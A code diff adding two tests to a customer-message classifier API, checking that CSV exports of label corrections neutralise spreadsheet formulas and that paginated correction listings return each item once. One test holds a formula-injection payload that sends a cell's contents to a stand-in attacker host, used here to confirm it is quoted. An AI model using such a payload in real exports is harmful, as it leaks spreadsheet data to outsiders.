@@ -7,11 +7,13 @@ import csv
 import io
 import json
 from collections.abc import AsyncIterator
+from datetime import UTC, datetime
 from pathlib import Path
 
 import httpx
 import pytest
 
+from socialcare_classifier.intents_cli import read_intent_rows
 from socialcare_classifier.sentiment_cli import read_rows
 from socialcare_router.adapters.store import Store
 from socialcare_router.domain.permissions import Actor
@@ -137,3 +139,57 @@ async def test_supervisors_list_and_export_their_brands_corrections(
                                                     ("my order is late", "positive")]
     nothing = await api.get("/v1/corrections/export?format=jsonl", headers=GLOBEX)
     assert nothing.status_code == 200 and nothing.text == ""
+
+
+async def test_a_formula_a_customer_wrote_is_exported_quoted_and_trained_on_as_written(
+        api: httpx.AsyncClient, store: Store, tmp_path: Path) -> None:  # noqa: F811
+    await seed(store, 2)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
+    await store.db.messages.update_one({"_id": M0}, {"$set": {"text": formula}})
+    await store.db.messages.update_one({"_id": M1}, {"$set": {"text": "'-5 stars"}})
+    for message_id in (M0, M1):
+        response = await api.patch(labels(message_id), json={
+            "sentiment": "negative", "intents": ["refund_return"]}, headers=OWNER)
+        assert response.status_code == 200, response.text
+
+    exported = await api.get("/v1/corrections/export?format=csv", headers=SUP)
+    texts = [r["text"] for r in csv.DictReader(io.StringIO(exported.text))]
+    # What a spreadsheet shows as text, never runs; a quote before '-' is kept by one more.
+    assert sorted(texts) == ["''-5 stars", "'" + formula]
+
+    path = tmp_path / "corrections.csv"
+    path.write_text(exported.text, encoding="utf-8")
+    assert sorted(read_rows(path, "text", "label")) == [("'-5 stars", "negative"),
+                                                        (formula, "negative")]
+    assert sorted(read_intent_rows(path, "acme")) == [("'-5 stars", ("refund_return",)),
+                                                      (formula, ("refund_return",))]
+
+
+async def test_pages_of_corrections_made_at_one_instant_list_each_once(
+        api: httpx.AsyncClient, store: Store) -> None:  # noqa: F811
+    await seed(store, 7)
+    for i in range(7):
+        response = await api.patch(labels(f"x:acme:m{i}"), json={"sentiment": "neutral"},
+                                   headers=OWNER)
+        assert response.status_code == 200, response.text
+    # One instant for five of them (a batch of corrections, or a coarse clock), so pages of
+    # two end amid them.
+    same = datetime(2026, 5, 1, 12, 0, tzinfo=UTC)
+    await store.db.corrections.update_many(
+        {"message_id": {"$in": [f"x:acme:m{i}" for i in range(5)]}},
+        {"$set": {"corrected_at": same}})
+
+    listed: list[str] = []
+    params: dict[str, str | int] = {"limit": 2}
+    while page := (await api.get("/v1/corrections", params=params, headers=SUP)).json():
+        listed += [c["message_id"] for c in page]
+        params = {"limit": 2, "before": page[-1]["corrected_at"], "before_id": page[-1]["id"]}
+    assert sorted(listed) == [f"x:acme:m{i}" for i in range(7)]
+    assert len(listed) == 7
+
+    # The old page link (before alone) still means "strictly older".
+    older = await api.get("/v1/corrections", headers=SUP,
+                          params={"before": "2026-05-01T12:00:00Z"})
+    assert older.json() == []
+    refused = await api.get("/v1/corrections", headers=SUP, params={"before_id": "x"})
+    assert refused.status_code == 422 and "before_id needs before" in refused.text
